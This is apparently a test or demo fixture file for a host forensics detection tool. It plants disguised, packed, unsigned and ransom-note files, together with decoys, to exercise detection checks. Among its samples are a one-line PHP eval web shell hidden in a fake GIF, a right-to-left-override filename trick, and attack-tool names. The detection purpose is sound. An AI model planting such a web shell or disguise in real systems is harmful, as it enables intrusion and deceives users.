// Files in places that matter.
#include "tests/support/binary_writer.h"
#include "tests/support/der_writer.h"
#include "tools/demo/exhibition/bytes.h"
#include "tools/demo/exhibition/exhibition.h"

namespace xiezhi::demo {
namespace {

using enum Role;
using testing::PeWriter;

struct File {
    Role role;
    const char* checks;
    const char* path;  // from the volume's root
    std::string bytes;
};

/// Bytes that nothing can be told of but that they are many.
std::string large(std::size_t size) {
    return std::string(size, '\x7e');
}

/// The entry of a certificate table whose PKCS #7 is none any more.
std::string torn_signature() {
    constexpr std::uint32_t kSize = 64;
    constexpr std::uint16_t kRevision = 0x0200;
    constexpr std::uint16_t kSignedData = 2;
    return testing::BinaryWriter()
        .put(kSize)
        .put(kRevision)
        .put(kSignedData)
        .fill_to(kSize, '\x30')
        .bytes();
}

std::vector<File> programs() {
    constexpr std::size_t kLarge = 1'200'000;
    constexpr std::size_t kCode = 512;
    return {
        {Planted, "host/attack_tool_file", "Users/li/Downloads/mimikatz.exe", program({})},
        {Planted, "host/attack_tool_file", "Tools/ct-notes.exe",
         program({.original_name = "mimikatz.exe"})},
        {Decoy, "host/attack_tool_file", "Users/wang/Downloads/mimic.exe", program({})},
        {Planted, "host/family_file", "Windows/Help/lsmosee.exe", program({})},
        {Planted, "host/family_file", "Users/li/Downloads/xmrig.exe", program({})},
        {Planted, "host/family_file", "Users/li/Downloads/WinRing0x64.sys", program({})},
        {Decoy, "host/family_file", "Users/wang/Downloads/lsmosee-viewer.exe", program({})},
        {Planted, "host/file_in_hideout", "Windows/Temp/fh.exe", program({})},
        {Planted, "host/file_packed", "Users/li/Downloads/fp-upx.exe",
         program({.code_section = "UPX0"})},
        {Planted, "host/file_packed", "Users/li/Downloads/fp-dense.exe",
         program({.code = noise(kCode, 5)})},
        {Decoy, "host/file_packed", "Users/wang/Downloads/fp-plain.exe", program({})},
        {Planted, "host/file_random_name", "Users/li/Downloads/x7kq2m9z4p.exe",
         program({.overlay = large(kLarge)})},
        {Decoy, "host/file_random_name", "Users/wang/Downloads/b3f8d2a9c1e4.exe", program({})},
        {Planted, "host/file_unsigned_in_system_folder", "Windows/System32/fu-cache.dll",
         program({.company = ""})},
        {Decoy, "host/file_unsigned_in_system_folder", "Windows/System32/fu-acmeprint.dll",
         program({})},
        {Planted, "host/program_signature_broken", "Users/Public/svchost.exe", program({})},
        {Planted, "host/program_signature_broken", "Users/li/Downloads/ps-cut.exe",
         program({.certificate = torn_signature()})},
        {Planted, "host/program_unsigned", "Users/li/Downloads/pu-plain.exe", program({})},
        // What tasks lead to: commands.cpp.
        {Scenery, "", "ProgramData/Shop/nameless.exe", program({.company = "?"})},
        {Scenery, "", "ProgramData/Shop/named.exe", program({.company = "Shop"})},
        {Scenery, "", "Users/li/AppData/Roaming/pu.exe", program({.company = "-"})},
        {Scenery, "", "Users/wang/AppData/Roaming/pu.exe", program({})},
        {Scenery, "", "ProgramData/Shop/ss-agent.exe", program({})},
        {Scenery, "", "Tools/sl-tool.exe", program({})},
        {Scenery, "", "Windows/System32/th-server.dll", program({})},
        {Planted, "host/file_disguised", "Users/li/Desktop/fd-photo.jpg", program({})},
        {Planted, "host/file_disguised", "Users/li/Desktop/fd-invoice.pdf.exe", program({})},
        {Planted, "host/file_disguised", "Users/li/Desktop/fd-\u202Efdp.exe", program({})},
        {Decoy, "host/file_disguised", "Users/wang/Desktop/fd-setup.v2.exe", program({})},
    };
}

std::vector<File> others() {
    constexpr std::size_t kLong = 20'000;
    const std::string sealed = "7z\xbc\xaf\x27\x1c";
    return {
        {Planted, "host/document_encrypted", "Users/li/Documents/de-plan.xlsx", noise(kLong, 6)},
        {Decoy, "host/document_encrypted", "Users/wang/Documents/de-packed.xlsx",
         sealed + noise(kLong, 7)},
        {Planted, "host/file_disguised", "Users/li/Pictures/fd-logo.gif",
         "GIF89a<?php @eval($_POST[1]);?>"},
        {Decoy, "host/file_disguised", "Users/wang/Desktop/fd-photo.jpg",
         "\x89PNG\r\n\x1a\n" + noise(kLong, 8)},
        {Decoy, "host/file_in_hideout", "Windows/Temp/__PSScriptPolicyTest_3xq0iwlb.p5k.ps1",
         "# PowerShell test file to determine AppLocker lockdown mode\r\n"},
        {Planted, "host/ransom_note", "Users/li/Documents/rn-read.txt",
         "All your files are encrypted. Pay 2 bitcoin to get the decryptor. Contact us with the "
         "tor browser: http://exampleexampleexample.onion\r\n"},
        {Planted, "host/ransom_note", "Users/li/Desktop/HOW_TO_RECOVER_FILES.txt",
         "Write to us.\r\n"},
        {Decoy, "host/ransom_note", "Users/wang/Documents/rn-manual.txt",
         "On tape all backup files are encrypted. To recover your files you need the decryption "
         "key from the safe.\r\n"},
    };
}

/// As many catalogs as say that those of Windows are all there, so that a program without a
/// signature can be called unsigned.
void put_catalogs(Stand& stand) {
    constexpr std::size_t kCatalogs = 100;
    constexpr std::size_t kDigest = 32;
    for (std::uint32_t i = 0; i < kCatalogs; ++i) {
        stand.file("Windows/System32/CatRoot/{F750E6C3-38EE-11D1-85E5-00C04FC295EE}/Package_" +
                       std::to_string(i) + ".cat",
                   testing::catalog_file(noise(kDigest, i)));
    }
}

void put(Stand& stand, const std::vector<File>& files) {
    for (const File& file : files) {
        stand.file(file.path, file.bytes);
        const std::string_view path = file.path;
        stand.tell(file.role, file.checks, path, path.substr(path.rfind('/') + 1));
    }
}

}  // namespace

void exhibit_files(const Exhibition& at) {
    put(at.exhibit, programs());
    put(at.exhibit, others());
    put_catalogs(at.exhibit);
    // Without catalogs nothing says that a program is unsigned.
    put(at.neighbour,
        {{Decoy, "host/program_unsigned", "Users/wang/Downloads/pu-known.exe", program({})},
         {Decoy, "host/program_signature_broken", "Users/Public/svchost.exe",
          program({.company = "Microsoft Corporation"})}});
}

}  // namespace xiezhi::demo
